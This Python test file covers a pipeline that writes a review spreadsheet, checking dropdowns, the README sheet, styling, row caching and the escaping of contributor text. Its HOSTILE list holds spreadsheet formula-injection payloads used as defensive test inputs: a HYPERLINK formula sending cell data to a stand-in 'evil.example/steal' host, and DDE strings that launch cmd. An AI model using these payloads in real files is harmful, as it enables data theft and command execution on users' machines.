"""review.xlsx: dropdowns, README, reviewer cell, and no formula from contributor text."""

from __future__ import annotations

from hypothesis import given, strategies as st
from openpyxl import load_workbook

from pipeline.report.build import build_report
from pipeline.review.cells import DANGEROUS_FIRST, neutralise, restore_text
from pipeline.review.sheet import read_review_sheet, sheet_has_reviewer_input

HOSTILE = ['=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "\tTabbed =1+1 text"]


def _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for):
    inp = make_input()
    result = build_report(inp, encode_tfidf, settings_for(), tmp_path, find_sentences=finder)
    return inp, result, result.paths["review"]


def test_no_formula_anywhere_and_hostile_text_neutralised(tmp_path, make_input, finder,
                                                          encode_tfidf, settings_for):
    _, _, path = _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for)
    wb = load_workbook(path)  # formulas would load as data_type "f"
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_FIRST), (ws.title,
                                                                       cell.coordinate)
                    seen.append(cell.value)
    for text in HOSTILE:
        assert "'" + text in seen
    assert "'=HYPERLINK(\"http://evil.example/\",\"click\")" not in seen  # organisation not listed
    # and the raw XML holds no <f> element at all
    import zipfile

    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name)


def test_reading_back_restores_the_exact_text(tmp_path, make_input, finder, encode_tfidf,
                                              settings_for):
    inp, _, path = _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for)
    sheet = read_review_sheet(path)
    texts = {r.get("paragraph_id"): r.get("text") for r in sheet.paragraphs}
    for cp in inp.paragraphs:
        assert texts[cp.para.paragraph_id] == cp.para.text
    assert len(sheet.groups) > 5 and sheet.reviewer is None
    assert not sheet_has_reviewer_input(path)


def test_dropdowns_readme_hidden_helpers(tmp_path, make_input, finder, encode_tfidf,
                                         settings_for):
    _, result, path = _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for)
    wb = load_workbook(path)
    assert wb.sheetnames[:3] == ["README", "Groups", "Paragraphs"]
    assert wb["Lists"].sheet_state == "hidden"
    readme_text = " ".join(str(c.value) for row in wb["README"].iter_rows() for c in row
                           if c.value)
    for word in ("accept", "reject", "relabel", "merge", "cenb review apply"):
        assert word in readme_text
    assert wb["README"]["A4"].value == "Reviewer name"
    for name in ("Groups", "Paragraphs"):
        ws = wb[name]
        header = [c.value for c in ws[1]]
        for col in ("decision", "relabel_to", "merge_into", "comment"):
            assert col in header
        dvs = ws.data_validations.dataValidation
        formulas = {dv.formula1 for dv in dvs}
        assert '"accept,reject,relabel,merge"' in formulas
        assert any(f.startswith("Lists!$A$2:$A$17") for f in formulas)
        ranges = " ".join(str(dv.sqref) for dv in dvs)
        letter = lambda c: chr(ord("A") + header.index(c))  # noqa: E731
        assert letter("decision") in ranges and letter("relabel_to") in ranges
        # a <col> element may span several columns (min..max)
        hidden = {n for d in ws.column_dimensions.values() if d.hidden
                  for n in range(d.min, d.max + 1)}
        assert {header.index("check") + 1, header.index("prefill") + 1} <= hidden
        assert header.index("text" if name == "Paragraphs" else "group_id") + 1 not in hidden
    keys = [wb["Lists"].cell(row=r, column=1).value for r in range(2, 18)]
    from pipeline.taxonomy_keys import CHALLENGE_KEYS

    assert tuple(keys) == CHALLENGE_KEYS
    assert wb["Groups"].max_row == len(result.grouping.groups) + 1


@given(st.text(max_size=60))
def test_neutralise_round_trip(text):
    safe = neutralise(text)
    assert not safe.startswith(DANGEROUS_FIRST)
    # illegal XML characters are replaced; everything else comes back exactly
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    assert restore_text(safe) == ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)


def test_numbers_stay_numbers():
    assert neutralise(3) == 3 and neutralise(0.5) == 0.5 and neutralise(None) is None
    assert neutralise("-3") == "'-3"


def test_a_rerun_replaces_its_own_untouched_sheet_and_keeps_a_reviewed_one(
        tmp_path, make_input, finder, encode_tfidf, settings_for):
    from openpyxl import load_workbook as load

    from pipeline.report.build import write_run_json
    from pipeline.review.sheet import REVIEWER_LABEL, README_SHEET, choose_review_path

    _, result, path = _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for)
    assert result.output_sha256["review.xlsx"]
    write_run_json(tmp_path / "run.json", {"output_sha256": result.output_sha256})
    # untouched: the recorded hash matches, so the sheet is replaced without being read
    again = build_report(make_input(), encode_tfidf, settings_for(), tmp_path,
                         find_sentences=finder)
    assert again.paths["review"] == path and not again.notes
    # a reviewer types a name and saves: the hash no longer matches, the sheet is read, kept
    write_run_json(tmp_path / "run.json", {"output_sha256": again.output_sha256})
    wb = load(path)
    ws = wb[README_SHEET]
    assert ws["A4"].value == REVIEWER_LABEL
    ws["B4"] = "A. Reviewer"
    wb.save(path)
    kept, message = choose_review_path(tmp_path, as_written=again.output_sha256["review.xlsx"])
    assert kept != path and message and "kept" in message
    third = build_report(make_input(), encode_tfidf, settings_for(), tmp_path,
                         find_sentences=finder)
    assert third.paths["review"] != path
    assert read_review_sheet(path).reviewer == "A. Reviewer"


def test_review_columns_shaded_text_wrapped_header_frozen(tmp_path, make_input, finder,
                                                          encode_tfidf, settings_for):
    _, _, path = _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for)
    wb = load_workbook(path)
    ws = wb["Paragraphs"]
    header = [c.value for c in ws[1]]

    def column(name):   # the <col> element covering this column
        n = header.index(name) + 1
        return next(d for d in ws.column_dimensions.values() if d.min <= n <= d.max)

    assert column("decision").fill.fgColor.rgb.endswith("FFF4CC")
    assert column("comment").fill.fgColor.rgb.endswith("FFF4CC")
    assert column("text").alignment.wrap_text and column("text").fill.fill_type is None
    assert column("text").width >= 60
    assert ws.freeze_panes == "B2"
    assert ws["A1"].font.bold and ws["A1"].fill.fgColor.rgb.endswith("1F3A5F")
    assert ws.auto_filter.ref.startswith("A1:")
    assert wb["README"]["B4"].fill.fgColor.rgb.endswith("FFE082")   # the reviewer-name cell


def test_text_over_the_cell_limit_is_cut_visibly():
    from pipeline.review.cells import CELL_LIMIT

    long = "; ".join(f"Contributor {i}" for i in range(5000))
    safe = neutralise(long)
    assert len(safe) == CELL_LIMIT and safe.endswith("\u2026") and long.startswith(safe[:-1])
    assert neutralise("=" + long).startswith("'=")


@given(st.lists(st.sampled_from([0.0, 0.004, 0.25, 0.5, 0.5, 0.75, 0.9]), min_size=16,
                max_size=16))
def test_top_scores_are_the_three_highest_ties_in_taxonomy_order(values):
    """The fast top-3 against a direct rendering of the rule."""
    from pipeline.records import Prediction
    from pipeline.report.model import ClassifiedParagraph
    from pipeline.review.sheet import _scores_text
    from pipeline.taxonomy_keys import CHALLENGE_KEYS

    scores = dict(zip(CHALLENGE_KEYS, values))
    ranked = sorted(range(len(CHALLENGE_KEYS)), key=lambda i: (-values[i], i))[:3]
    expected = "; ".join(f"{CHALLENGE_KEYS[i]} {values[i]:.2f}" for i in ranked if values[i] > 0)
    for order in (scores, dict(reversed(list(scores.items())))):
        cp = ClassifiedParagraph(para=None, prediction=Prediction(  # type: ignore[arg-type]
            challenges=[], challenge_scores=order, stakeholders=[], stakeholder_scores={},
            is_policy_option=False))
        assert _scores_text(cp) == expected


def test_paragraph_rows_are_kept_by_contribution_under_its_state(
        tmp_path, make_input, finder, encode_tfidf, settings_for):
    """With provenance states, each contribution's Paragraphs rows are one stored block: the
    same sheet, a block made again only when its contribution's state, a reviewer's label or
    an option group of it changed."""
    import zipfile
    from dataclasses import replace

    from pipeline.review.confirmed import ConfirmedLabel
    from pipeline.review.sheet import PARAGRAPHS_SHEET, write_review_sheet
    from pipeline.review.sheet_rows import RowCache, _sheet_part

    inp, result, _ = _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for)
    grouping, paragraphs = result.grouping, inp.paragraphs
    meta = {"generated_at": "2026-12-07T00:00:00+00:00"}
    states = {name: f"state of {name}" for name in inp.documents}
    n_files = len({cp.para.source_file for cp in paragraphs})

    def rows_xml(path):
        with zipfile.ZipFile(path) as zf:
            return zf.read(_sheet_part(zf, PARAGRAPHS_SHEET))

    def write(name, cache=None, file_states=None, grouping=grouping):
        path = tmp_path / f"{name}.xlsx"
        write_review_sheet(path, grouping, paragraphs, meta=meta, row_cache=cache,
                           file_states=file_states)
        return rows_xml(path)

    plain = write("plain")
    cache = RowCache(tmp_path / "rows")
    assert write("first", cache, states) == plain
    assert (cache.block_hits, cache.block_misses) == (0, n_files)
    assert write("second", cache, states) == plain
    assert (cache.block_hits, cache.block_misses) == (n_files, n_files)

    # a reviewer's label on one paragraph: its contribution's block only is made again
    cp = paragraphs[0]
    cp.confirmed = ConfirmedLabel(cp.para.paragraph_id, "reject", (), None, None,
                                  "A. Reviewer", "2026-12-01T10:00:00")
    labelled = write("labelled-plain")
    assert labelled != plain
    assert write("labelled", cache, states) == labelled
    assert (cache.block_hits, cache.block_misses) == (2 * n_files - 1, n_files + 1)
    cp.confirmed = None

    # another option group for one paragraph, or another state of its file: the same
    pid = next(iter(grouping.paragraph_group))
    regrouped = replace(grouping, paragraph_group={**grouping.paragraph_group, pid: "g-other"})
    assert write("regrouped", cache, states, regrouped) == write("regrouped-plain",
                                                                 grouping=regrouped)
    assert cache.block_misses == n_files + 2
    source = paragraphs[-1].para.source_file
    assert write("restated", cache, {**states, source: "a new state"}) == plain
    assert cache.block_misses == n_files + 3
    cache.close()
